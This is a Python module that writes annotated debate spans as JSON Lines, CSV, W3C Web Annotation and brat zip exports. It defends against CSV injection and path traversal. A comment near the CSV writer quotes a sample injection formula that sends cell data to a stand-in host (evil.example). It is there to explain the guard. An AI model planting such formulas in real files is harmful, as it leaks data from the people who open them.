"""Span export formats: pure generators from plain rows to the bytes of a download.

Nothing here touches the database: ``annotations.export_selectors`` reads spans in chunks and
hands them over as ``ExportSpan`` rows, ordered by document, then layer (gold first), then
text order. Each writer yields ``bytes`` as it goes, keeping at most one chunk of spans
(JSON Lines, written a chunk at a time), one document's layer (brat) or one span (CSV,
webanno) in memory, so an export of any size runs in flat memory. The first piece (the
provenance) is sent alone and at once.

Formats (``FORMATS``):

- ``jsonl``: JSON Lines. Line 1 ``{"type": "provenance", ...}``; then one
  ``{"type": "actor", ...}`` line per actor of the debate; then per document one
  ``{"type": "document", ...}`` line (with its text) followed by one ``{"type": "span", ...}``
  line per span. The file is self-contained: ``import_spans`` loads it into any debate.
- ``csv``: one row per span with a header row; relations in one column as
  ``type:target;type:target``. Provenance is in the ``X-Debatemap-Provenance`` header only,
  so every CSV reader reads the file as it is.
- ``webanno``: one W3C Web Annotation JSON-LD document, an ``AnnotationCollection`` whose
  ``first`` page holds one ``Annotation`` per span (TextQuoteSelector with exact, prefix and
  suffix; TextPositionSelector with code point offsets). Its ``@context`` is the W3C
  annotation context plus a few terms of ours; ``local_document_loader`` lets a JSON-LD
  processor (pyld) expand it without fetching anything.
- ``brat``: a zip with ``provenance.json``, ``annotation.conf`` and per document and layer
  ``gold/doc-<id>.txt|.ann`` or ``annotators/<username>/doc-<id>.txt|.ann``. T lines carry
  the role as entity type, A lines the stance and actor, ``#`` lines the note, R lines the
  relations (Arg1 = source, Arg2 = target). Offsets are code points of the UTF-8 ``.txt``;
  a span over a line break becomes brat fragments (``0 5;6 9``) split at line breaks.
"""

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from datetime import date, datetime
from pathlib import Path
from typing import Any

import orjson

from core.memory import collector_paused

FORMATS = ("jsonl", "csv", "webanno", "brat")
BLOCK_BYTES = 64 * 1024
QUOTE_CONTEXT = 32  # code points of prefix and suffix in a TextQuoteSelector

MEDIA_TYPES = {
    "jsonl": "application/x-ndjson; charset=utf-8",
    "csv": "text/csv; charset=utf-8",
    "webanno": 'application/ld+json; profile="http://www.w3.org/ns/anno.jsonld"',
    "brat": "application/zip",
}
EXTENSIONS = {"jsonl": "jsonl", "csv": "csv", "webanno": "jsonld", "brat": "zip"}

ANNO_CONTEXT_URL = "http://www.w3.org/ns/anno.jsonld"
_ANNO_CONTEXT_FILE = Path(__file__).with_name("jsonld") / "anno.jsonld"
VOCAB = "urn:debatemap:"
# Our terms beside the W3C ones: which scheme field a body classifies, the span's layer and
# its relations to other spans (by annotation id).
DEBATEMAP_CONTEXT = {
    "dm": VOCAB,
    "field": "dm:field",
    "layer": "dm:layer",
    "actorId": {"@id": "dm:actorId", "@type": "xsd:integer"},
    "relations": {"@id": "dm:relation", "@container": "@set"},
    "relationType": "dm:relationType",
    "relatedTo": {"@id": "dm:relatedTo", "@type": "@id"},
    "provenance": {"@id": "dm:provenance", "@type": "@json"},
}
CSV_COLUMNS = (
    "id",
    "document",
    "document_sha256",
    "layer",
    "annotator",
    "start",
    "end",
    "quote",
    "stance",
    "role",
    "actor_id",
    "actor",
    "note",
    "relations",
    "version",
    "created_by",
    "created_at",
    "updated_at",
)
GOLD_FOLDER = "gold"
ANNOTATORS_FOLDER = "annotators"
BRAT_STANCE = "Stance"
BRAT_ACTOR = "Actor"
BRAT_NOTE = "AnnotatorNotes"
BRAT_CONFIG_FILES = ("annotation.conf", "visual.conf", "tools.conf", "kb_shortcuts.conf")
# Every character str.splitlines() breaks at: a reader that splits lines there must never
# see one inside a brat line.
LINE_BREAKS = "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"
_LINE_BREAK_RUN = re.compile(f"[{re.escape(LINE_BREAKS)}]+")
_NOT_BRAT_NAME = re.compile(r"[^A-Za-z0-9_-]")
_NOT_PATH_PART = re.compile(r"[^\w.@+-]")


@dataclass(frozen=True, slots=True)
class ExportDocument:
    id: int
    sha256: str
    title: str
    source: str
    url: str
    published: date | None
    text: str | None  # None when the format does not need it


@dataclass(frozen=True, slots=True)
class ExportActor:
    id: int
    name: str
    kind: str
    affiliation: str
    aliases: list[str]


@dataclass(frozen=True, slots=True)
class ExportRelation:
    id: int
    type: str
    target: int


@dataclass(slots=True)
class ExportSpan:
    id: int
    document: ExportDocument
    layer: str
    annotator: str | None
    start: int
    end: int
    quote: str
    stance: str
    role: str
    actor: ExportActor | None
    note: str
    version: int
    created_by: str
    created_at: str  # ISO 8601
    updated_at: str
    relations: list[ExportRelation] = field(default_factory=list)


# --- Helpers --------------------------------------------------------------------------------
_JSON = json.JSONEncoder(ensure_ascii=False, separators=(",", ":"))


def _blocks(pieces: Iterable[str | bytes], size: int = BLOCK_BYTES) -> Iterator[bytes]:
    """Join small pieces into blocks of about ``size`` bytes; a piece never waits for more.

    Text is joined first and encoded once per block, which is cheaper than encoding each
    line. The first piece (the provenance) goes out alone and at once, so a client sees the
    export start before the database has sorted the first rows.
    """
    pieces = iter(pieces)
    first = next(pieces, None)
    if first is not None:
        yield first.encode("utf-8") if isinstance(first, str) else first
    texts: list[str] = []
    ready: list[bytes] = []
    length = 0
    for piece in pieces:
        if isinstance(piece, bytes):
            if texts:
                ready.append("".join(texts).encode("utf-8"))
                texts.clear()
            ready.append(piece)
        else:
            texts.append(piece)
        length += len(piece)
        if length >= size:
            if texts:
                ready.append("".join(texts).encode("utf-8"))
                texts.clear()
            yield b"".join(ready)
            ready.clear()
            length = 0
    if texts:
        ready.append("".join(texts).encode("utf-8"))
    if ready:
        yield b"".join(ready)


def _line(value: dict[str, Any]) -> bytes:
    """Return one JSON Lines line: compact UTF-8 JSON (orjson, in C) and a line end."""
    return orjson.dumps(value, option=orjson.OPT_APPEND_NEWLINE)


def _iso(value: datetime | date | None) -> str | None:
    return None if value is None else value.isoformat()


def actor_json(actor: ExportActor) -> dict[str, Any]:
    """Return an actor as the JSON Lines export writes it."""
    return {
        "type": "actor",
        "id": actor.id,
        "name": actor.name,
        "kind": actor.kind,
        "affiliation": actor.affiliation,
        "aliases": actor.aliases,
    }


def document_json(document: ExportDocument) -> dict[str, Any]:
    """Return a document (with its text) as the JSON Lines export writes it."""
    return {
        "type": "document",
        "id": document.id,
        "sha256": document.sha256,
        "title": document.title,
        "source": document.source,
        "url": document.url,
        "published": _iso(document.published),
        "text": document.text,
    }


def span_json(span: ExportSpan) -> dict[str, Any]:
    """Return a span as the JSON Lines export writes it."""
    actor = span.actor
    return {
        "type": "span",
        "id": span.id,
        "document": span.document.id,
        "document_sha256": span.document.sha256,
        "layer": span.layer,
        "annotator": span.annotator,
        "start": span.start,
        "end": span.end,
        "quote": span.quote,
        "stance": span.stance,
        "role": span.role,
        "actor": None if actor is None else {"id": actor.id, "name": actor.name},
        "note": span.note,
        "relations": [
            {"id": relation.id, "type": relation.type, "target": relation.target}
            for relation in span.relations
        ],
        "version": span.version,
        "created_by": span.created_by,
        "created_at": span.created_at,
        "updated_at": span.updated_at,
    }


# --- JSON Lines -----------------------------------------------------------------------------


def jsonl_export(
    *,
    provenance: dict[str, Any],
    actors: Iterable[ExportActor],
    body: Iterable[bytes],
) -> Iterator[bytes]:
    """Yield the JSON Lines export: provenance, actors, then the document and span lines.

    ``body`` is the rest of the file in blocks: ``jsonl_body`` writes it from spans, and
    on PostgreSQL ``export_jsonl_body`` has the database write the same bytes.
    """
    yield _line({"type": "provenance", **provenance})
    yield b"".join(_line(actor_json(actor)) for actor in actors)
    yield from body


def jsonl_body(chunks: Iterable[list[ExportSpan]]) -> Iterator[bytes]:
    """Yield each document's line followed by its spans' lines, one block per chunk.

    A generator step per span would cost more than writing its line.
    """
    current = None
    for chunk in chunks:
        lines = []
        with collector_paused():  # thousands of short-lived objects, no cycles
            for span in chunk:
                if span.document is not current:
                    current = span.document
                    lines.append(_line(document_json(current)))
                lines.append(_line(span_json(span)))
        yield b"".join(lines)


# --- CSV ------------------------------------------------------------------------------------
def relations_cell(relations: Iterable[ExportRelation]) -> str:
    """Return relations as one compact CSV cell: ``supports:15;attacks:22``."""
    return ";".join(f"{relation.type}:{relation.target}" for relation in relations)


# A spreadsheet runs a cell that starts with one of these as a formula, so a note such as
# =HYPERLINK("https://evil.example/?"&A2) would act on whoever opens the export (CSV injection).
_FORMULA_FIRST = frozenset("=+-@\t\r")


def csv_text(value: str) -> str:
    """Return text for a CSV cell: with a leading apostrophe when a spreadsheet would run it.

    Spreadsheets show the apostrophe-led cell as the text after it; JSON Lines keeps the exact
    value for programs.
    """
    return "'" + value if value and value[0] in _FORMULA_FIRST else value


def csv_export(*, spans: Iterable[ExportSpan]) -> Iterator[bytes]:
    """Yield the CSV export: a header row, then one row per span (text cells via csv_text)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")

    def rows() -> Iterator[str]:
        writer.writerow(CSV_COLUMNS)
        for span in spans:
            actor = span.actor
            writer.writerow(
                (
                    span.id,
                    span.document.id,
                    span.document.sha256,
                    csv_text(span.layer),
                    csv_text(span.annotator or ""),
                    span.start,
                    span.end,
                    csv_text(span.quote),
                    csv_text(span.stance),
                    csv_text(span.role),
                    "" if actor is None else actor.id,
                    "" if actor is None else csv_text(actor.name),
                    csv_text(span.note),
                    csv_text(relations_cell(span.relations)),
                    span.version,
                    csv_text(span.created_by),
                    span.created_at,
                    span.updated_at,
                )
            )
            if buffer.tell() >= BLOCK_BYTES:
                yield buffer.getvalue()
                buffer.seek(0)
                buffer.truncate()
        yield buffer.getvalue()

    return _blocks(rows())


# --- W3C Web Annotation ---------------------------------------------------------------------
def anno_context() -> dict[str, Any]:
    """Return the W3C Web Annotation JSON-LD context document, from the copy shipped here."""
    return json.loads(_ANNO_CONTEXT_FILE.read_text(encoding="utf-8"))


def local_document_loader(url: str, options: dict | None = None) -> dict[str, Any]:
    """Load the W3C annotation context from the local copy, for pyld; refuse anything else.

    Use it as ``jsonld.expand(doc, {"documentLoader": local_document_loader})`` to expand an
    export offline.
    """
    if url.rstrip("/").replace("https://", "http://", 1) != ANNO_CONTEXT_URL:
        raise ValueError(f"Only {ANNO_CONTEXT_URL} is available offline, not {url}.")
    return {"contextUrl": None, "documentUrl": url, "document": anno_context()}


def web_annotation(span: ExportSpan, *, base_url: str) -> dict[str, Any]:
    """Return one span as a W3C Web Annotation (without @context)."""
    text = span.document.text or ""
    bodies: list[dict[str, Any]] = [
        {"type": "TextualBody", "purpose": "classifying", "field": "stance", "value": span.stance},
        {"type": "TextualBody", "purpose": "classifying", "field": "role", "value": span.role},
    ]
    if span.actor is not None:
        bodies.append(
            {
                "type": "TextualBody",
                "purpose": "identifying",
                "field": "actor",
                "value": span.actor.name,
                "actorId": span.actor.id,
            }
        )
    if span.note:
        bodies.append({"type": "TextualBody", "purpose": "commenting", "value": span.note})
    annotation: dict[str, Any] = {
        "id": f"{base_url}api/v1/spans/{span.id}/",
        "type": "Annotation",
        "motivation": "classifying",
        "created": span.created_at,
        "modified": span.updated_at,
        "creator": {"type": "Person", "nickname": span.created_by},
        "layer": span.layer,
        "body": bodies,
        "target": {
            "source": f"{base_url}api/v1/documents/{span.document.id}/",
            "selector": [
                {
                    "type": "TextQuoteSelector",
                    "exact": span.quote,
                    "prefix": text[max(0, span.start - QUOTE_CONTEXT) : span.start],
                    "suffix": text[span.end : span.end + QUOTE_CONTEXT],
                },
                {"type": "TextPositionSelector", "start": span.start, "end": span.end},
            ],
        },
    }
    if span.relations:
        annotation["relations"] = [
            {
                "relationType": relation.type,
                "relatedTo": f"{base_url}api/v1/spans/{relation.target}/",
            }
            for relation in span.relations
        ]
    return annotation


def webanno_export(
    *,
    provenance: dict[str, Any],
    spans: Iterable[ExportSpan],
    base_url: str,
    collection_id: str,
    label: str,
) -> Iterator[bytes]:
    """Yield one JSON-LD AnnotationCollection whose first page holds every span's annotation.

    ``base_url`` ends with a slash; annotation ids and targets are API URLs under it.
    """
    head = {
        "@context": [ANNO_CONTEXT_URL, DEBATEMAP_CONTEXT],
        "id": collection_id,
        "type": "AnnotationCollection",
        "label": label,
        "generator": {
            "type": "Software",
            "name": f"Debatemap {provenance['software']['version']}",
        },
        "generated": provenance["exported_at"],
        "provenance": provenance,
    }
    opening = _JSON.encode(head)[:-1] + ',"first":{"type":"AnnotationPage","items":['

    def pieces() -> Iterator[str]:
        yield opening
        separator = ""
        for span in spans:
            yield separator + _JSON.encode(web_annotation(span, base_url=base_url))
            separator = ",\n"
        yield "]}}\n"

    return _blocks(pieces())


# --- brat -----------------------------------------------------------------------------------
def brat_name(key: str) -> str:
    """Return a label as a brat type, attribute or value name (letters, digits, _ and -)."""
    return _NOT_BRAT_NAME.sub("_", key) or "_"


def actor_tokens(actors: Iterable[ExportActor]) -> dict[int, str]:
    """Return each actor's brat attribute value: its name made a token, unique in the debate."""
    tokens: dict[int, str] = {}
    taken: set[str] = set()
    for actor in sorted(actors, key=lambda actor: actor.id):
        token = brat_name(actor.name)
        if token in taken:
            token = f"{token}-{actor.id}"
        taken.add(token)
        tokens[actor.id] = token
    return tokens


def brat_fragments(text: str, start: int, end: int) -> list[tuple[int, int]]:
    """Return ``[start, end)`` as brat fragments: the runs between line breaks.

    A brat line cannot hold a line break, so brat itself stores a span over several lines as
    fragments; breaks at the very edges of a span cannot be represented and are left out.
    """
    fragments: list[tuple[int, int]] = []
    position = start
    for match in _LINE_BREAK_RUN.finditer(text, start, end):
        if match.start() > position:
            fragments.append((position, match.start()))
        position = match.end()
    if end > position:
        fragments.append((position, end))
    return fragments


def brat_folder(layer: str, annotator: str | None) -> str:
    """Return the zip folder of a layer: ``gold`` or ``annotators/<username>``."""
    if annotator is None:
        return GOLD_FOLDER
    part = _NOT_PATH_PART.sub("_", annotator)
    if part in {".", ".."}:
        part = part.replace(".", "_")
    return f"{ANNOTATORS_FOLDER}/{part}"


def _one_line(value: str) -> str:
    return _LINE_BREAK_RUN.sub(" ", value)


def annotation_conf(*, scheme: dict[str, Any], actors: Iterable[ExportActor]) -> str:
    """Return brat's annotation.conf for a debate's label scheme and actors.

    Spans may overlap, so the conf allows any overlap (``<OVERLAP>``).
    """
    tokens = actor_tokens(actors)
    entities = [brat_name(item["key"]) for item in scheme.get("roles", [])]
    relations = [brat_name(item["key"]) for item in scheme.get("relation_types", [])]
    stances = [brat_name(item["key"]) for item in scheme.get("stances", [])]
    lines = ["# Debatemap label scheme: entity types are roles.", "[entities]", *entities, ""]
    lines.append("[relations]")
    lines += [f"{name}\tArg1:<ENTITY>, Arg2:<ENTITY>" for name in relations]
    lines += ["<OVERLAP>\tArg1:<ENTITY>, Arg2:<ENTITY>, <OVL-TYPE>:<ANY>", ""]
    lines += ["[events]", "", "[attributes]"]
    lines.append(f"{BRAT_STANCE}\tArg:<ENTITY>, Value:{'|'.join(stances)}")
    if tokens:
        lines.append(f"{BRAT_ACTOR}\tArg:<ENTITY>, Value:{'|'.join(tokens.values())}")
    return "\n".join(lines) + "\n"


def ann_lines(spans: list[ExportSpan], *, tokens: dict[int, str]) -> Iterator[str]:
    """Yield the .ann lines of one document's layer: T, A and # per span, then R lines.

    A relation whose target is not among ``spans`` (filtered out) is left out, since brat
    refuses a relation to an annotation the file does not have.
    """
    numbers: dict[int, int] = {}
    attribute = 0
    for number, span in enumerate(spans, start=1):
        numbers[span.id] = number
        text = span.document.text or ""
        fragments = brat_fragments(text, span.start, span.end) or [(span.start, span.end)]
        offsets = ";".join(f"{start} {end}" for start, end in fragments)
        mention = " ".join(text[start:end] for start, end in fragments)
        yield f"T{number}\t{brat_name(span.role)} {offsets}\t{mention}\n"
        attribute += 1
        yield f"A{attribute}\t{BRAT_STANCE} T{number} {brat_name(span.stance)}\n"
        if span.actor is not None:
            attribute += 1
            yield f"A{attribute}\t{BRAT_ACTOR} T{number} {tokens[span.actor.id]}\n"
        if span.note:
            yield f"#{number}\t{BRAT_NOTE} T{number}\t{_one_line(span.note)}\n"
    relation = 0
    for span in spans:
        for link in span.relations:
            if link.target in numbers:
                relation += 1
                yield (
                    f"R{relation}\t{brat_name(link.type)} "
                    f"Arg1:T{numbers[span.id]} Arg2:T{numbers[link.target]}\n"
                )


class _Sink(io.RawIOBase):
    """A write-only, unseekable file: what zipfile writes is taken out block by block."""

    def __init__(self) -> None:
        self._pending: list[bytes] = []

    def writable(self) -> bool:
        return True

    def write(self, data) -> int:
        self._pending.append(bytes(data))
        return len(data)

    def take(self) -> bytes:
        data = b"".join(self._pending)
        self._pending.clear()
        return data


def _layer_groups(
    spans: Iterable[ExportSpan],
) -> Iterator[list[ExportSpan]]:
    """Group consecutive spans of one document and layer (the order the selector gives)."""
    group: list[ExportSpan] = []
    for span in spans:
        if group and (span.document is not group[0].document or span.layer != group[0].layer):
            yield group
            group = []
        group.append(span)
    if group:
        yield group


def brat_export(
    *,
    provenance: dict[str, Any],
    scheme: dict[str, Any],
    actors: list[ExportActor],
    spans: Iterable[ExportSpan],
    now: datetime,
) -> Iterator[bytes]:
    """Yield a zip of brat standoff files, written entry by entry as the spans arrive."""
    sink = _Sink()
    stamp = (max(now.year, 1980), now.month, now.day, now.hour, now.minute, now.second)
    tokens = actor_tokens(actors)

    def entry(archive: zipfile.ZipFile, name: str, data: str) -> bytes:
        info = zipfile.ZipInfo(name, date_time=stamp)
        info.compress_type = zipfile.ZIP_DEFLATED
        info.external_attr = 0o644 << 16
        archive.writestr(info, data.encode("utf-8"))
        return sink.take()

    def pieces() -> Iterator[bytes]:
        with zipfile.ZipFile(sink, mode="w") as archive:
            yield entry(
                archive, "provenance.json", json.dumps(provenance, ensure_ascii=False, indent=2)
            )
            yield entry(archive, "annotation.conf", annotation_conf(scheme=scheme, actors=actors))
            for group in _layer_groups(spans):
                first = group[0]
                stem = f"{brat_folder(first.layer, first.annotator)}/doc-{first.document.id}"
                yield entry(archive, f"{stem}.txt", first.document.text or "")
                yield entry(archive, f"{stem}.ann", "".join(ann_lines(group, tokens=tokens)))
        yield sink.take()  # the central directory

    return _blocks(pieces())


# --- Dispatch -------------------------------------------------------------------------------
def needs_text(format: str) -> bool:
    """Return whether a format writes document text (or quote context taken from it)."""
    return format != "csv"
